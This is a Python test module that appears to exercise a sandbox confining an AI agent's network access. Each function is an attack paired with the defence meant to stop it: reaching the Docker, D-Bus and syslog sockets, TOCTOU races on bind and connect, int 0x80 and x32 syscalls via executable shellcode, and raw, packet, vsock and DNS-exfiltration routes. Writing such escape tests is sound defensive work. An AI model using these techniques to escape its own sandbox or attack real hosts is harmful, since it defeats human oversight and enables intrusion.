"""Attacks by all other sockets."""

import contextlib
import ctypes
import mmap
import os
import random
import socket
import struct
import sys
import threading
import time
from pathlib import Path

from tests.attacks.attack import ITSELF, NETWORK, attack_on
from tests.attacks.places import LONG_S, Places, checked, flag_in, hit, libc, reach_unix
from tests.attacks.races import beside, rewriting, tries


@attack_on(
    "network",
    "Names are the namespace's own; elsewhere the monitor refuses to bind one.",
    seen=lambda places: hit(places, "wanted"),
)
def abstract_name(places: Places) -> str | None:
    """Takes a name that another program will want: to be called by its clients, or as a lock."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as taker:
        taker.bind(places.sockets["wanted"])
        taker.listen()
        hit(places, "wanted")
    return "taken"


ATTEMPTS = 1000


def _served(one: socket.socket, wait_s: float) -> str | None:
    one.listen()
    one.settimeout(wait_s)
    guest, _ = one.accept()
    with guest:
        return flag_in(guest.recv(100))


@attack_on("network", "The monitor looks at the name that a socket has got before it listens.")
def abstract_race(places: Places) -> str | None:
    """Rewrites the name while it is looked at, listens, and waits for the program's clients."""
    name = places.sockets["called"].encode()
    shared = mmap.mmap(-1, 4096)
    shared[: 2 + len(name)] = struct.pack("=H", socket.AF_UNIX) + name
    rewritten = rewriting(shared, 2, b"x", b"\0")  # a path, in the folder that it is in, or a name
    address = ctypes.c_void_p(ctypes.addressof(ctypes.c_char.from_buffer(shared)))
    os.chdir(places.scratch)
    for _ in tries(ATTEMPTS, rewritten):
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as one:
            libc.bind(one.fileno(), address, 2 + len(name))
            if isinstance(one.getsockname(), bytes):
                return _served(one, places.arrives_s)
    return None


@attack_on(
    "network", "Landlock's scope and the monitor refuse names outside; a namespace has its own."
)
def abstract_socket(places: Places) -> str | None:
    """Connects to a socket that is no file: session buses and many daemons have one."""
    return reach_unix(places.sockets["abstract"])


@attack_on("network", "The filter knows three families of sockets.", needs=ITSELF, a_right=True)
def crypto_socket(places: Places) -> str | None:
    """Makes an AF_ALG socket: a large part of the kernel that had many holes."""
    socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET, 0).close()
    return "an AF_ALG socket"


@attack_on(
    "network",
    "Pairs of datagram sockets are refused: the address of sendmsg no filter can see.",
    seen=lambda places: hit(places, "syslog"),
)
def datagram_pair(places: Places) -> str | None:
    """Makes a harmless pair and sends from one half to a foreign socket, by sendto and sendmsg."""
    one, other = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    with one, other:
        try:
            return str(one.sendto(b"hello", places.sockets["syslog"]))
        except OSError:
            return str(one.sendmsg([b"hello"], [], 0, places.sockets["syslog"]))


@attack_on(
    "network",
    "No datagram socket is given out; in a namespace the file is not there.",
    seen=lambda places: hit(places, "log"),
)
def datagram_to_file(places: Places) -> str | None:
    """Writes to the log daemon's socket, which needs no connection."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as one:
        return str(one.sendmsg([b"hello"], [], 0, places.sockets["log"]))


@attack_on("network", "It is a socket outside the agent's folders, whatever its mode.")
def docker_socket(places: Places) -> str | None:
    """Asks the engine for its containers: whoever may, is root on the machine."""
    return reach_unix(places.sockets["docker"], b"GET /info HTTP/1.0\r\n\r\n")


# mov eax, 359 (socket); mov ebx, 2; mov ecx, 2; xor edx, edx; int 0x80; ret (rbx kept)
CODE = bytes.fromhex("53 b867010000 bb02000000 b902000000 31d2 cd80 5b c3")


def _foreign_calls_needs(places: Places) -> None:
    assert os.uname().machine == "x86_64", "another machine"
    foreign_calls(places)


@attack_on(
    "network",
    "The filter kills whoever calls by another ABI.",
    needs=_foreign_calls_needs,
    a_right=True,
)
def foreign_calls(places: Places) -> str | None:
    """Makes a UDP socket by the 32-bit interface (int 0x80), whose numbers are others."""
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(CODE)
    start = ctypes.addressof(ctypes.c_char.from_buffer(page))
    result = ctypes.CFUNCTYPE(ctypes.c_int)(start)()
    return f"socket {result}" if result >= 0 else None


@attack_on("network", "It is a socket outside the agent's folders, whatever its mode.")
def message_bus(places: Places) -> str | None:
    """Greets D-Bus: it starts programs for whoever may ask."""
    return reach_unix(places.sockets["dbus"], b"\0AUTH EXTERNAL 30\r\nBEGIN\r\n")


ROOT_SERVERS = b"\x4e\x53\1\0\0\1\0\0\0\0\0\0\0\0\2\0\1"


@attack_on(
    "network",
    "No datagram socket is given out, and no connection to the server is allowed.",
    needs=NETWORK,
)
def name_lookup(places: Places) -> str | None:
    """Asks a name server by an address that is not loopback's: a name can carry a secret out."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.settimeout(places.arrives_s)
        one.sendto(ROOT_SERVERS, (places.own_address, places.ports["names"]))
        return flag_in(one.recv(4096))


GET_LINK, DUMP = 18, 0x301


@attack_on("network", "The filter knows three families of sockets.", a_right=True)
def netlink_socket(places: Places) -> str | None:
    """Asks the kernel for its network devices; with rights it would change routes."""
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, socket.NETLINK_ROUTE) as one:
        one.send(struct.pack("=IHHIIB3x", 20, GET_LINK, DUMP, 1, 0, 0))
        return f"{len(one.recv(65536))} bytes about devices"


@attack_on("network", "The filter knows three families of sockets.", needs=ITSELF, a_right=True)
def packet_socket(places: Places) -> str | None:
    """Listens to every packet of the machine, and could send its own."""
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)).close()
    return "the wire is open"


@attack_on("network", "The filter knows streams only.", needs=ITSELF, a_right=True)
def ping_socket(places: Places) -> str | None:
    """Makes a datagram socket for ICMP, which needs no right on many machines."""
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP).close()
    return "echo requests can be sent"


@attack_on("network", "The filter knows streams only.", needs=ITSELF, a_right=True)
def raw_socket(places: Places) -> str | None:
    """Makes one for ICMP, and one that writes its own IP headers."""
    for protocol in (socket.IPPROTO_ICMP, socket.IPPROTO_RAW):
        socket.socket(socket.AF_INET, socket.SOCK_RAW, protocol).close()
    return "packets of any kind can be sent"


@attack_on("network", "Streams are TCP or nothing.", needs=ITSELF, a_right=True)
def sctp_socket(places: Places) -> str | None:
    """Makes a stream socket of another protocol, whose connect some filters do not see."""
    socket.socket(socket.AF_INET, socket.SOCK_STREAM, socket.IPPROTO_SCTP).close()
    return "an SCTP socket"


@attack_on(
    "network",
    "The monitor walks the path without following a link, and takes sockets of one name only.",
)
def socket_by_link(places: Places) -> str | None:
    """Links a foreign socket into its own folder, by a symbolic and by a hard link."""
    link, hard = Path(places.scratch, "link"), Path(places.scratch, "hard")
    link.symlink_to(places.sockets["plain"])
    try:
        return reach_unix(str(link))
    except OSError:
        hard.hardlink_to(places.sockets["plain"])
        return reach_unix(str(hard))


@attack_on(
    "network",
    "The monitor connects only below the agent's own folders; in a namespace it is not there.",
)
def socket_file(places: Places) -> str | None:
    """Connects to a UNIX socket that everybody may use."""
    return reach_unix(places.sockets["plain"])


SOCKET_SWAPPED_ATTEMPTS = 150


@attack_on("network", "The monitor connects to what it has opened, not to a name.")
def socket_swapped(places: Places) -> str | None:
    """Swaps its own socket for a link to a foreign one again and again while it connects."""
    path, other = Path(places.scratch, "swapped"), Path(places.scratch, "swap")
    own = Path(places.scratch, "own.sock")

    def swap() -> None:
        for target in (own, places.sockets["plain"]):
            other.symlink_to(target)
            other.replace(path)

    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(str(own))
        listener.listen(512)
        for _ in tries(SOCKET_SWAPPED_ATTEMPTS, beside(swap)):
            with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as client:
                client.setblocking(False)
                try:
                    client.connect(str(path))
                except BlockingIOError:  # a queue is full: the other side needs time
                    time.sleep(0.001)
                    continue
                if client.getpeername() != str(own):
                    client.settimeout(LONG_S)
                    return flag_in(client.recv(100))
                listener.accept()[0].close()
    return None


@attack_on(
    "network",
    "A UDP socket that is given out is shut for sending; with an address nothing is sent.",
    seen=lambda places: hit(places, "udp"),
)
def udp(places: Places) -> str | None:
    """Sends datagrams to a service by every call that sends, with an address and connected."""
    there = ("127.0.0.1", places.ports["udp"])
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        for send in (
            lambda: one.sendto(b"x", there),
            lambda: one.sendmsg([b"x"], [], 0, there),
            lambda: one.connect(there),
            lambda: one.send(b"x"),
            lambda: os.write(one.fileno(), b"x"),
        ):
            with contextlib.suppress(OSError):
                send()
    return "sent"


UDP_BIND_RACE_ATTEMPTS = 1_500


@attack_on(
    "network",
    "A UDP socket hears loopback's device only, whatever address it is bound to.",
    needs=NETWORK,
)
def udp_bind_race(places: Places) -> str | None:
    """Shows a UNIX socket to whoever judges bind, and puts a UDP socket in its place."""
    port, host = places.ports["raced"].to_bytes(2, "big"), socket.inet_aton(places.own_address)
    raw = struct.pack("=H", socket.AF_INET) + port + host + bytes(8)
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    place, swaps, both = os.dup(unix.fileno()), list[int](), (udp.fileno(), unix.fileno())

    def swap() -> None:
        while True:
            # By chance: in turn, the two threads may fall into step, and each look meets the same.
            os.dup2(random.choice(both), place)
            swaps.append(1)

    sys.setswitchinterval(0.0005)
    threading.Thread(target=swap, daemon=True).start()
    udp.settimeout(places.arrives_s)
    for _ in tries(UDP_BIND_RACE_ATTEMPTS, lambda: len(swaps)):
        libc.bind(place, ctypes.c_char_p(raw), 16)
        if udp.getsockname()[0] == places.own_address:
            device = udp.getsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, 16)
            return None if device.startswith(b"lo\0") else flag_in(udp.recv(100))
    return None


@attack_on(
    "network",
    "Only loopback can be bound to; a namespace has nothing else.",
    needs=NETWORK,
)
def udp_from_the_network(places: Places) -> str | None:
    """Takes a UDP port of the machine's own address, and what others send to it."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.settimeout(places.arrives_s)
        one.bind((places.own_address, places.ports["dropped"]))
        return flag_in(one.recv(100))


@attack_on("network", "The filter knows three families of sockets.", needs=ITSELF, a_right=True)
def vsock(places: Places) -> str | None:
    """Makes a socket to the hypervisor, which no network namespace confines."""
    socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).close()
    return "a vsock socket"


X32 = 0x40000000


@attack_on(
    "network",
    "The filter knows no number beyond the last one that was judged.",
    needs=ITSELF,
    a_right=True,
)
def x32_calls(places: Places) -> str | None:
    """Makes a socket by the number of x32, which no list of numbers has."""
    number = ctypes.c_long(X32 + places.numbers["socket"])
    return f"socket {checked(libc.syscall(number, 2, 2, 0))}"
